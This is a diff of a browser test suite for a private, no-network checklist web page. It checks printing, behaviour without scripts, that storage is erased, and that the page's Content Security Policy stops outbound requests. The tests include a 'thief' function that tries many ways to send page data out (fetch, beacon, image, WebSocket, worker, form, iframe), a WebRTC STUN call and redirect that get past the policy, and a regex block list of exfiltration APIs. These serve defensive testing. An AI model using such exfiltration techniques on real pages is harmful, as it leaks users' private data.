@@ -1,126 +1,210 @@
-// The checklist on screen: whole without scripts, ticks that stay in the tab, an erase that erases, and a page that can send nothing.
-import { after, afterEach, before, beforeEach, test } from 'node:test';
+// The checklist's page and its safety: whole without scripts, for printing and from a file; and a page that can send nothing.
+import { after, before, test } from 'node:test';
 import assert from 'node:assert/strict';
+import dgram from 'node:dgram';
 import fs from 'node:fs';
 import http from 'node:http';
 import path from 'node:path';
-import { all, attribute, builtSite, meta, pagesOf, tag, text, withClass } from './support/site.mjs';
+import { spawnSync } from 'node:child_process';
+import { pathToFileURL } from 'node:url';
+import { all, attribute, builtSite, meta, pagesOf, policyOf, tag, temporaryFolder, text, withClass } from './support/site.mjs';
 import { serve } from './support/server.mjs';
-import { launch, open, settle } from './support/browser.mjs';
+import { launch, open } from './support/browser.mjs';
 import { none } from './support/list.mjs';
+import { Reader, nothing, readChecklist, rulesOf, traces } from './support/story.mjs';
 
 const folder = builtSite();
 const pages = pagesOf(folder);
 const source = pages.find(({ url }) => url === '/checklist/');
 const signs = pages.filter(({ kind }) => kind === 'sign');
 const practices = pages.filter(({ kind }) => kind === 'practice');
-const items = all(source.tree, withClass('item'));
-let browser, server, visit, page;
+const items = all(source.tree, (element) => attribute(element, 'data-item') !== null);
+const wishes = all(source.tree, (element) => attribute(element, 'data-practice') !== null);
+const scripts = all(source.tree, tag('script')).map((script) => attribute(script, 'src')).filter(Boolean);
+let browser, server;
 
 before(async () => { server = await serve(folder, { '/unguarded/': '<!doctype html><title>No policy</title>' }); browser = await launch(); });
-beforeEach(async () => { visit = await open(browser, server.origin + '/checklist/'); page = visit.page; });
-afterEach(() => visit.close());
 after(async () => { await browser?.close(); await server?.close(); });
 
-const boxes = () => page.locator('form input[type=checkbox]');
-const ticked = () => page.locator('form input:checked').count();
-const kept = () => page.evaluate(async () => ({
-  session: { ...sessionStorage }, local: { ...localStorage }, cookie: document.cookie,
-  databases: (await indexedDB.databases()).map(({ name }) => name), caches: 'caches' in window ? await caches.keys() : [],
-}));
-async function tick(...ids) {
-  for (const id of ids) await page.locator(`[id="${id}"]`).check();
-}
-/** The ids of both boxes of a line, by its place. */
-const pair = (i) => all(items[i], tag('input')).map((input) => attribute(input, 'id'));
-async function tickAll() {
-  for (const box of await boxes().all()) await box.check();
-}
+const read = (work, options) => readChecklist(browser, server, work, options);
 
 // ---- What is there
 
-test('the checklist is whole without scripts: a line for every sign and every practice', () => {
+test('there is a question for every sign, in its own words, and a wish for every practice', () => {
   const statements = signs.map((sign) => text(all(sign.tree, withClass('pull'))[0]));
-  const lines = items.map((item) => text(all(item, tag('legend'))[0]));
-  assert.equal(signs.length, 8);
-  assert.equal(practices.length, 10);
-  assert.deepEqual([...lines].sort(), [...statements, ...practices.map(({ h1 }) => h1)].sort());
+  const legends = (list) => list.map((item) => text(all(item, tag('legend'))[0])).sort();
+  assert.deepEqual([signs.length, practices.length], [8, 10]);
+  assert.deepEqual(legends(items), statements.sort());
+  assert.deepEqual(legends(wishes), practices.map(({ h1 }) => h1).sort());
 });
 
-test('every line is a group of its own with two labelled boxes and a link to its page', () => {
-  none(items.flatMap((item) => {
+test('every question is a group of its own with four labelled answers, a box to keep it back, and a link to its page', () => {
+  none([...items, ...wishes].flatMap((item) => {
     const wrong = [];
-    const ids = all(item, tag('input')).map((input) => attribute(input, 'id'));
-    const labels = all(item, tag('label'));
+    const labels = all(item, tag('label')).filter((label) => all(label, tag('input')).length === 1 && text(label));
+    const radios = all(item, (element) => attribute(element, 'type') === 'radio');
     if (item.tagName !== 'fieldset' || !text(all(item, tag('legend'))[0])) wrong.push('no legend');
-    if (ids.length !== 2 || !ids.every((id) => labels.some((label) => attribute(label, 'for') === id && text(label)))) wrong.push('a box without a label');
+    if (labels.length !== all(item, tag('input')).length) wrong.push('a box without a label');
+    if (items.includes(item) && radios.map((radio) => attribute(radio, 'value')).join() !== 'not,sometimes,often,skip') wrong.push('other answers');
+    if (all(item, (element) => attribute(element, 'data-keep') !== null).length !== 1) wrong.push('nothing keeps it back');
     if (!all(item, withClass('about')).some((about) => all(about, tag('a')).length === 1)) wrong.push('no link');
     return wrong.map((what) => `${attribute(item, 'data-title')}: ${what}`);
-  }), 'wrong lines');
+  }), 'wrong questions');
 });
 
-test('nothing is ticked beforehand, and nothing must be', async () => {
-  none(items.flatMap((item) => all(item, tag('input')).filter((input) => ['checked', 'required'].some((name) => attribute(input, name) !== null))), 'ticked in the source');
-  assert.equal(await ticked(), 0);
-  assert.equal(await page.locator('#hearth--shared').isVisible(), false);
+test('nothing is answered beforehand, and nothing must be', async () => {
+  const inputs = [...items, ...wishes].flatMap((item) => all(item, tag('input')));
+  none(inputs.filter((input) => ['checked', 'required', 'aria-required'].some((name) => attribute(input, name) !== null)).map((input) => attribute(input, 'id')), 'answered in the source');
+  await read(async ({ page }) => assert.equal(await page.locator(':is([data-item], [data-practice]) input:checked').count(), 0));
 });
 
-test('the safety note stands above the first line, whatever is ticked', async () => {
+test('the safety note stands above every screen, whatever is answered', () => read(async (reader, { page }) => {
   const note = page.locator('.safety');
   const before = await note.innerText();
-  assert.ok((await note.boundingBox()).y < (await boxes().first().boundingBox()).y);
-  await tickAll();
+  assert.match(before, /afraid/);
+  const isAbove = async () => assert.ok((await note.boundingBox()).y < (await page.locator('[data-step]:not([hidden])').boundingBox()).y && await note.isVisible());
+  await isAbove();
+  await reader.takeTurns({ answers: { 0: 'often' } }, { answers: { 0: 'often' } }, 'both');
+  await isAbove();
   assert.equal(await note.innerText(), before);
-  assert.ok(await note.isVisible());
+}));
+
+test('what explains the checklist stands below its first screen, and says what it keeps and how to see that it sends nothing', () => read(async (reader, { page }) => {
+  assert.ok((await page.locator('.prose').boundingBox()).y > (await page.locator('[data-step=start]').boundingBox()).y);
+  const said = await page.locator('.private').innerText();
+  assert.match(said, /connect-src/);
+  assert.match(said, /switch off the network/);
+  assert.match(meta(source, 'content-security-policy'), /connect-src 'none'/);
+}));
+
+test('the button that prints, prints', () => read(async (reader, { page }) => {
+  await page.evaluate(() => { window.print = () => { window.printed = true; }; });
+  await reader.takeTurns({}, {}, 'both');
+  await reader.press('print');
+  assert.equal(await page.evaluate(() => window.printed), true);
+}));
+
+// ---- Without scripts, on paper, from a file
+
+test('without scripts every question, every suggestion with its reason and every practice can be read, and no button is there that does nothing', async () => {
+  const { page, close } = await open(browser, server.origin + '/checklist/', { javaScriptEnabled: false });
+  assert.equal(await page.locator('main :is(button, summary):visible').count(), 0);
+  const read_ = (await page.locator('main').innerText()).replace(/\s+/g, ' ');
+  const words = [...items, ...wishes].map((item) => text(all(item, tag('legend'))[0]));
+  const reasons = items.flatMap((item) => all(item, withClass('why')).map(text));
+  assert.ok(reasons.length >= 16);
+  none([...words, ...reasons].filter((one) => !read_.includes(one)), 'what cannot be read');
+  assert.equal(await page.locator('form input[type=radio]:visible').count(), 4 * items.length);
+  assert.ok(await page.locator('main a[href="/checklist/sheet/"]:visible').count() > 0);
+  await close();
 });
 
-test('every box is at least 44 px wide and high, on a telephone too', async () => {
-  for (const width of [1280, 320]) {
-    await page.setViewportSize({ width, height: 700 });
-    const small = await page.evaluate(() => [...document.querySelectorAll('form input[type=checkbox], .boxes label')].map((element) => {
-      const box = element.getBoundingClientRect();
-      return { what: element.id || element.htmlFor, box, isLabel: element.tagName === 'LABEL' };
-    }).filter(({ box, isLabel }) => box.height < 44 || (!isLabel && box.width < 44)).map(({ what, box }) => `${what} ${box.width} × ${box.height}`));
-    none(small, `too small at ${width} px`);
-  }
+const plain = (words) => words.normalize('NFKC').replace(/[\s\u00ad\u2010-]/g, '');
+
+/** The text of the page on paper. */
+async function print(page) {
+  const file = path.join(temporaryFolder('checklist'), 'page.pdf');
+  await page.pdf({ path: file, format: 'A4' });
+  const read = spawnSync('pdftotext', ['-raw', file, '-'], { encoding: 'utf8' });
+  assert.equal(read.status, 0, read.stderr);
+  return plain(read.stdout);
+}
+
+const titles = (list) => list.map((item) => attribute(item, 'data-title'));
+const printed = (paper, list) => titles(list).flatMap((title, i) => (paper.includes(plain(title)) ? [i] : []));
+
+test('without scripts every question prints', async () => {
+  const { page, close } = await open(browser, server.origin + '/checklist/', { javaScriptEnabled: false });
+  const paper = await print(page);
+  assert.deepEqual([printed(paper, items).length, printed(paper, wishes).length], [items.length, wishes.length]);
+  await close();
 });
 
-test('a label ticks its own box, and the space bar does', async () => {
-  const [first, second] = pair(0);
-  await page.locator(`label[for="${second}"]`).click();
-  assert.deepEqual(await page.locator('form input:checked').evaluateAll((list) => list.map(({ id }) => id)), [second]);
-  await page.locator(`[id="${first}"]`).press(' ');
-  assert.equal(await ticked(), 2);
+test('before both have seen it together no answer prints, but where the blank sheet is; afterwards only what both agreed to', () => read(async (reader, { page }) => {
+  const note = plain('Answers print only after both have seen them together');
+  const assertNothingPrints = async () => {
+    const paper = await print(page);
+    assert.ok(paper.includes(note) && paper.includes(plain('/checklist/sheet/')));
+    assert.deepEqual(printed(paper, items), []);
+    assert.match(paper, /afraid/);
+  };
+  await reader.begin('turns', 'both');
+  await reader.answer({ 0: 'often', 1: 'often' });
+  await assertNothingPrints();
+  await reader.fillIn({ wishes: [0] });
+  await assertNothingPrints();
+  await reader.press('passed');
+  // A wish of one alone, of a practice that nothing else leads to here.
+  const led = (await rulesOf(page)).items[0].leads.map(([practice]) => practice);
+  const wish = wishes.findIndex((_, i) => i > 0 && !led.includes(i));
+  await reader.fillIn({ answers: { 0: 'sometimes', 2: 'often' }, wishes: [0, wish] });
+  await assertNothingPrints();
+  await reader.press('compare');
+  const paper = await print(page);
+  assert.deepEqual(printed(paper, items), [0]);
+  assert.ok(!paper.includes(note));
+  assert.ok(printed(paper, wishes).includes(0) && !printed(paper, wishes).includes(wish));
+}));
+
+/** The page with its styles and scripts beside it, as a reader saves it. */
+function saveAsFile() {
+  const saved = temporaryFolder('saved');
+  fs.cpSync(folder, saved, { recursive: true });
+  const html = source.source.replace(/(href|src)="\/(?!\/)/g, '$1="../').replace(/\.\.\/"/g, '../index.html"');
+  fs.writeFileSync(path.join(saved, 'checklist/index.html'), html);
+  return pathToFileURL(path.join(saved, 'checklist/index.html')).href;
+}
+
+test('from a file the whole story works, and nothing is kept, because all files share one store', async () => {
+  const context = await browser.newContext();
+  const page = await context.newPage();
+  const errors = [];
+  page.on('pageerror', (error) => errors.push(String(error)));
+  await page.goto(saveAsFile());
+  const reader = new Reader(page);
+  await reader.begin('turns', 'both');
+  await reader.answer({ 0: 'often' });
+  assert.match(await reader.said(), /keeps nothing/);
+  await reader.fillIn({ wishes: [1] });
+  await reader.press('passed');
+  await reader.fillIn({ answers: { 0: 'often' }, wishes: [1] });
+  await reader.press('compare');
+  assert.equal((await reader.suggested())[0], 1);
+  const { session, local } = await traces(page);
+  assert.deepEqual({ session, local, errors }, { session: {}, local: {}, errors: [] });
+  await reader.press('erase');
+  assert.deepEqual(await traces(page), nothing);
+  await context.close();
 });
 
 // ---- What leaves: nothing
 
-test('ticking makes no request, leaves the address and the history alone, and sets no cookie', async () => {
-  const state = () => page.evaluate(() => [location.href, history.length, document.title]);
-  const before = await state();
-  const asked = visit.trouble.requests.length;
-  await tickAll();
-  await settle(page);
-  assert.deepEqual(await state(), before);
-  assert.deepEqual(visit.trouble.requests.slice(asked), []);
-  assert.deepEqual(visit.trouble.foreign, []);
-  const { session, ...elsewhere } = await kept();
-  assert.deepEqual(elsewhere, { local: {}, cookie: '', databases: [], caches: [] });
-  assert.equal(Object.keys(session).length, 1);
+test('the page forbids itself every connection, every form, every frame and every worker', () => {
+  const policy = policyOf(source);
+  for (const name of ['default-src', 'connect-src', 'form-action']) assert.equal(policy[name], "'none'", name);
+  assert.doesNotMatch(meta(source, 'content-security-policy'), /unsafe|https?:|\*/);
 });
 
-test('the form has no address and no names: it could send nothing even if it were sent', async () => {
-  await tickAll();
-  assert.equal(await page.evaluate(() => new URLSearchParams(new FormData(document.querySelector('form'))).toString()), '');
-  assert.equal(await page.locator('form').getAttribute('action'), null);
-  assert.equal(await page.locator('form').getAttribute('autocomplete'), 'off');
+test('the form leads nowhere, and browsers are asked to remember nothing of it', () => {
+  const form = all(source.tree, tag('form'))[0];
+  assert.deepEqual([attribute(form, 'action'), attribute(form, 'method'), attribute(form, 'autocomplete')], [null, null, 'off']);
+  none(all(source.tree, (element) => ['text', 'date'].includes(attribute(element, 'type')) && attribute(element, 'autocomplete') !== 'off').map((input) => attribute(input, 'id')), 'fields that browsers remember');
+  none(all(form, tag('button')).filter((button) => attribute(button, 'type') !== 'button').map(text), 'buttons that send');
 });
 
-test('the scripts of the page know no way out', () => {
-  const ways = /fetch|XMLHttp|WebSocket|EventSource|sendBeacon|RTCPeer|location|history|\bopen\s*\(|\.submit\b|innerHTML|outerHTML|insertAdjacent|document\.write|eval|Function\s*\(|import\s*\(|new Image|cookie|postMessage/;
-  const scripts = all(source.tree, tag('script')).map((script) => attribute(script, 'src')).filter(Boolean);
-  assert.ok(scripts.length > 0);
-  none(scripts.flatMap((src) => fs.readFileSync(path.join(folder, src), 'utf8').split('\n').filter((line) => ways.test(line.replace(/\/\/.*|\/\*.*?\*\//g, ''))).map((line) => `${src}: ${line.trim()}`)), 'ways out');
+/** Names by which a script could send something, lead away, make code of text, or write where others read. */
+const ways = /fetch|XMLHttp|WebSocket|WebTransport|EventSource|sendBeacon|RTC|Worker|location|history|navigat|\bopen\s*\((?!rules)|window\.open|\.submit\b|requestSubmit|innerHTML|outerHTML|insertAdjacent|setHTML|createContextualFragment|DOMParser|document\.write|\beval\b|Function\s*\(|import\s*[(]|\bImage\b|Audio|cookie|postMessage|BroadcastChannel|indexedDB|caches|clipboard|\.src\b|srcset|\.action\b|setTimeout\s*\(\s*["']|document\.title|\.ping\b/;
+const withoutComments = (script) => script.replace(/\/\*[\s\S]*?\*\//g, '').replace(/(^|\s)\/\/.*$/gm, '$1');
+
+test('no line of the checklist’s scripts could send anything, lead away, or make code or markup of a text', () => {
+  assert.ok(scripts.length >= 9);
+  const lines = scripts.flatMap((src) => withoutComments(fs.readFileSync(path.join(folder, src), 'utf8')).split('\n').map((line) => [src, line.trim()]));
+  none(lines.filter(([, line]) => ways.test(line)).map(([src, line]) => `${src}: ${line}`), 'ways out');
+  const links = lines.filter(([, line]) => /\.href\s*=|createObjectURL|setAttribute\(\s*["']href/.test(line)).map(([, line]) => line);
+  assert.deepEqual(links, ['link.href = about.getAttribute("href") || "";', 'files[id] = URL.createObjectURL(new Blob([text], { type }));', 'link.href = files[id];']);
+  const downloads = all(source.tree, (element) => ['hearth--export', 'hearth--calendar'].includes(attribute(element, 'id')));
+  assert.ok(downloads.length === 2 && downloads.every((link) => attribute(link, 'download') && attribute(link, 'href') === null), 'what is made here is only ever saved');
+  for (const way of ['location.href = x', 'window.open(x)', 'open("x")', 'fetch(x)', 'new Image()', 'new RTCPeerConnection()', 'form.submit()', 'eval(x)', 'part.innerHTML = x', 'import("x")']) assert.match(way, ways);
 });
 
 /** Every way in which a page can send something; each carries its name to the thief. */
@@ -131,12 +215,15 @@ function sendEverywhere(thief) {
     return element;
   };
   fetch(thief + 'fetch', { mode: 'no-cors' }).catch(() => {});
-  navigator.sendBeacon(thief + 'beacon', 'a-not-listening');
+  navigator.sendBeacon(thief + 'beacon', 'often');
   new Image().src = thief + 'image';
   new EventSource(thief + 'events').onerror = (event) => event.target.close();
   try { new WebSocket(thief.replace('http', 'ws') + 'socket'); } catch { /* refused at once */ }
   add('link', { rel: 'stylesheet', href: thief + 'style' });
   add('script', { src: thief + 'script' });
+  add('link', { rel: 'prefetch', href: thief + 'prefetch' });
+  const program = new Blob([`fetch('${thief}worker', { mode: 'no-cors' })`], { type: 'text/javascript' });
+  try { new Worker(URL.createObjectURL(program)).onerror = (event) => event.preventDefault(); } catch { /* refused at once */ }
   add('iframe', { src: thief + 'frame' });
   add('object', { data: thief + 'object' });
   add('video', { src: thief + 'media' });
@@ -145,8 +232,8 @@ function sendEverywhere(thief) {
   add('form', { action: thief + 'form', method: 'post', target: 'aside' }).submit();
 }
 
-test('code smuggled into the page could send nothing: no request, no beacon, no picture, no form, no socket', { timeout: 30_000 }, async () => {
-  const ways = ['fetch', 'beacon', 'image', 'events', 'socket', 'style', 'script', 'frame', 'object', 'media', 'form'];
+test('code smuggled into the page could send nothing: no request, no beacon, no picture, no form, no socket, no worker, no prefetch', async () => {
+  const ways = ['fetch', 'beacon', 'image', 'events', 'socket', 'style', 'script', 'frame', 'object', 'media', 'form', 'worker', 'prefetch'];
   const thief = await listen(ways);
   const context = await browser.newContext();
   const guarded = await context.newPage();
@@ -181,123 +268,25 @@ async function listen(ways) {
   return { address: `http://127.0.0.1:${thief.address().port}/`, arrived, all: complete, close };
 }
 
-// ---- What stays
-
-test('ticks survive a reload and a way to another page and back', async () => {
-  const ids = [pair(0)[0], pair(3)[1], pair(9)[0]];
-  const now = () => page.locator('form input:checked').evaluateAll((list) => list.map(({ id }) => id));
-  await tick(...ids);
-  await page.reload();
-  assert.deepEqual((await now()).sort(), [...ids].sort());
-  await page.goto(server.origin + '/about/');
-  await page.goBack();
-  assert.deepEqual((await now()).sort(), [...ids].sort());
-});
-
-test('ticks are seen in no other tab', async () => {
-  await tickAll();
-  const other = await visit.context.newPage();
-  await other.goto(server.origin + '/checklist/');
-  assert.equal(await other.locator('form input:checked').count(), 0);
-});
-
-test('erase leaves no tick, no key and no summary, now and after a reload, and says so', async () => {
-  await tickAll();
-  await page.locator('#erase').click();
-  const gone = async () => {
-    assert.equal(await ticked(), 0);
-    assert.deepEqual(await kept(), { session: {}, local: {}, cookie: '', databases: [], caches: [] });
-    assert.equal(await page.locator('#hearth--shared').isVisible(), false);
-    assert.equal(await page.locator('#hearth--shared-list').textContent(), '');
-  };
-  await gone();
-  assert.match(await page.locator('[role=status]').innerText(), /erased/i);
-  await page.reload();
-  await gone();
-  await page.goto(server.origin + '/about/');
-  await page.goBack();
-  await gone();
-});
-
-test('taking back the last tick leaves no key', async () => {
-  const [first] = pair(0);
-  await tick(first);
-  await page.locator(`[id="${first}"]`).uncheck();
-  assert.deepEqual((await kept()).session, {});
-});
-
-test('what is kept is only what this page can read: anything else is as nothing', async () => {
-  for (const value of ['{', '"x"', '[1,null,{"a":1}]', '["<img src=x onerror=alert(1)>"]', 'null']) {
-    await page.evaluate((text) => sessionStorage.setItem('betwixt.checklist.v1', text), value);
-    await page.reload();
-    assert.equal(await ticked(), 0);
-  }
-  assert.deepEqual(visit.trouble.console, []);
-});
-
-// ---- What both ticked
-
-test('the summary names what both ticked, with what may help, and nothing that only one ticked', async () => {
-  const both = [pair(1), pair(10)], one = pair(4)[0];
-  await tick(...both.flat(), one);
-  const named = await page.locator('#hearth--shared h3').allInnerTexts();
-  assert.deepEqual(named, [1, 10].map((i) => text(all(items[i], tag('legend'))[0])));
-  const suggested = await page.locator('#hearth--shared .suggestions a').evaluateAll((links) => links.map((link) => link.getAttribute('href')));
-  const practicesOfIt = all(all(items[1], withClass('suggestions'))[0], tag('a')).map((link) => attribute(link, 'href'));
-  assert.deepEqual(suggested, practicesOfIt);
-  assert.ok(suggested.length >= 2);
-  assert.ok(!(await page.locator('#hearth--shared').innerText()).includes(text(all(items[4], tag('legend'))[0])));
-});
-
-test('the summary appears and goes with the ticks, and is announced politely', async () => {
-  const [first, second] = pair(2);
-  const status = page.locator('[role=status]');
-  await tick(first);
-  assert.equal(await page.locator('#hearth--shared').isVisible(), false);
-  assert.equal(await status.innerText(), '');
-  await tick(second);
-  assert.equal(await page.locator('#hearth--shared').isVisible(), true);
-  assert.ok((await status.innerText()).length > 10);
-  await page.locator(`[id="${first}"]`).uncheck();
-  assert.equal(await page.locator('#hearth--shared').isVisible(), false);
-});
-
-test('there is never a number, a score or a share, however much is ticked', async () => {
-  const numbers = /\d|%|\b(score|points?|percent|total|result|compatib\w*|match(es)?)\b/i;
-  for (const make of [tickAll, () => page.locator('#erase').click(), () => tick(...pair(0))]) {
-    await make();
-    const said = await page.locator('#hearth--shared, [role=status]').allInnerTexts();
-    assert.doesNotMatch(said.join(' '), numbers);
-  }
-  assert.equal(await page.locator('meter, progress, output').count(), 0);
-});
-
-test('a tick and a shared tick can be told apart without colour', async () => {
-  const [first, second] = pair(0);
-  const looks = async () => (await page.locator('.item').first().screenshot()).toString('base64');
-  await page.emulateMedia({ reducedMotion: 'reduce', forcedColors: 'active' });
-  const shots = [await looks()];
-  for (const id of [first, second]) { await tick(id); await settle(page); shots.push(await looks()); }
-  assert.equal(new Set(shots).size, 3);
-});
-
-test('the print button prints', async () => {
-  await page.evaluate(() => { window.print = () => { window.printed = true; }; });
-  await page.locator('#hearth--print').click();
-  assert.equal(await page.evaluate(() => window.printed), true);
-});
-
-test('buttons that need scripts are not there without them, and the way to paper is', async () => {
-  const plain = await open(browser, server.origin + '/checklist/', { javaScriptEnabled: false });
-  assert.equal(await plain.page.locator('form button:visible').count(), 0);
-  assert.equal(await plain.page.locator('form input[type=checkbox]:visible').count(), 2 * items.length);
-  assert.ok(await plain.page.locator('a[href="/checklist/sheet/"]').isVisible());
-  await plain.close();
-});
-
-test('the page says what it keeps, and how to see that it sends nothing', async () => {
-  const said = await page.locator('.private').innerText();
-  assert.match(said, /connect-src/);
-  assert.match(said, /switch off the network/);
-  assert.match(meta(source, 'content-security-policy'), /connect-src 'none'/);
+test('what the policy cannot stop is known: leading away, a new window and calls by WebRTC; so no script of the page has a line for it', async () => {
+  const thief = await listen(['away', 'window']);
+  const socket = dgram.createSocket('udp4');
+  const called = new Promise((done) => socket.once('message', done));
+  await new Promise((bound) => socket.bind(0, '127.0.0.1', bound));
+  const context = await browser.newContext();
+  const guarded = await context.newPage();
+  await guarded.goto(server.origin + '/checklist/');
+  await guarded.evaluate(async ([address, port]) => {
+    const call = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
+    window.call = call;
+    call.createDataChannel('away');
+    await call.setLocalDescription();
+  }, [thief.address, socket.address().port]);
+  await called;
+  await guarded.evaluate((address) => { window.open(address + 'window'); window.location.href = address + 'away'; }, thief.address);
+  await thief.all;
+  for (const way of ['RTCPeerConnection', 'window.open(', 'window.location']) assert.match(way, ways);
+  await context.close();
+  socket.close();
+  thief.close();
 });
